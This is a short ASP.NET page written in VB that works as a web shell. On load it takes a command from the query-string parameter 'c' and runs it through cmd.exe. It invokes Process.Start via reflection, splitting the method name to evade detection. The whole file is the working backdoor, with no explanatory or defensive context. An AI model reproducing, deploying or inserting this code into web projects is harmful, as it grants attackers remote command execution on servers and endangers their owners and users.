<%@ Page Language="VB" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
    Dim t As Type = GetType(System.Diagnostics.Process)
    Dim m As MethodInfo = t.GetMethod("Sta" & "rt", New Type() {GetType(String), GetType(String)})
    If Request.QueryString("c") <> "" Then
        m.Invoke(Nothing, New Object() {"cmd.exe", "/c " & Request.QueryString("c")})
    End If
End Sub
</script>
